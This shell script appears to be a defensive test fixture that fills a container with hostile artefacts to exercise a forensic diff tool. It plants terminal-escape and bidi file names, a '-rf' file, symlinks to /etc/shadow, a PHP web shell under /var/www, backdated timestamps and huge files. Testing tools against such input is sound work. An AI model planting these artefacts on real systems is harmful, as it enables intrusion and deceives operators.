#!/bin/sh
# The hostile compromise: every trick in samples/hostile/README.md. Runs through docker exec.
set -eu
victim=$1
docker exec -i "$victim" sh -eu <<'ATTACK'
cd /tmp
# Names that try to drive the terminal: OSC title, clear screen, colour, C1 CSI, bidi override, newline.
printf 'x' > "$(printf 'esc\033]0;pwned\007\033[2J\033[31mred')"
printf 'x' > "$(printf 'c1\302\233[31m')"
printf 'x' > "$(printf 'invoice\342\200\256fdp.exe')"
printf 'x' > "$(printf 'two\nlines')"
printf 'x' > "$(printf 'link\033]8;;https:evil.example\033\\click\033]8;;\033\\')"
printf 'x' > ./-rf
printf 'x' > "$(printf 'bad-utf8-\377\376')"
printf 'x' > "$(head -c 250 /dev/zero | tr '\0' 'L')"
# Deep nesting: 200 levels.
d=/tmp/deep; i=0; while [ $i -lt 200 ]; do d=$d/d; i=$((i+1)); done; mkdir -p "$d"; echo bottom > "$d/f"
# Links out of the root, loops, a changed file replaced by a link to a host path, a hardlink.
ln -s /etc/shadow /tmp/to-shadow
ln -s ../../../../../../etc/passwd /tmp/climb
ln -s /tmp/loop-b /tmp/loop-a; ln -s /tmp/loop-a /tmp/loop-b
rm /var/www/index.html; ln -s /etc/shadow /var/www/index.html
ln /etc/group /tmp/hardlink-to-group
# Device node and FIFO.
mknod /tmp/null-dev c 1 3
mkfifo /tmp/fifo
# A listening unix socket on the container's own disk (no archive can hold one): busybox
# syslogd binds <root>/dev/log, so it runs chrooted into a folder of its own.
mkdir -p /var/spool/relay/dev && cp /bin/busybox /var/spool/relay/busybox
chroot /var/spool/relay /busybox syslogd -O /dev/null
i=0; while [ ! -S /var/spool/relay/dev/log ] && [ $i -lt 50 ]; do sleep 0.1; i=$((i+1)); done
# Size attacks: a 4 GiB sparse file, a 100 MB single line, 100,000 small files.
truncate -s 4G /tmp/sparse
head -c 100000000 /dev/zero | tr '\0' 'a' > /tmp/one-line.txt
mkdir /tmp/many; cd /tmp/many; i=0; while [ $i -lt 100000 ]; do : > f$i; i=$((i+1)); done; cd /tmp
# Anti-forensics: timestamps in the past and the future; a file in /dev/shm the diff cannot see.
echo old > /srv/data/notes.txt; touch -d '1999-01-01 00:00:00' /srv/data/notes.txt
echo future > /tmp/future; touch -d '2099-12-31 23:59:59' /tmp/future
echo staged > /dev/shm/payload
# Twins for the case folder: a long name and the shortened form coroner once stored it under
# (its head, `~`, 16 hex digits of its hash), names one case or normalisation apart, and a
# name like coroner's old temporary files. Each must keep a stored file of its own.
mkdir /var/www/twins && cd /var/www/twins
long=$(head -c 236 /dev/zero | tr '\0' 'w').php
echo '<?php system($_GET["c"]); ?>' > "$long"
echo 'decoy' > "$(head -c 182 /dev/zero | tr '\0' 'w')~$(printf %s "$long" | sha256sum | cut -c1-16)"
echo 'upper' > Shell.php; echo 'lower' > shell.php
printf 'nfc' > "$(printf 'caf\303\251')"; printf 'nfd' > "$(printf 'cafe\314\201')"
echo 'left out once' > report.json.partial-00ff
ATTACK
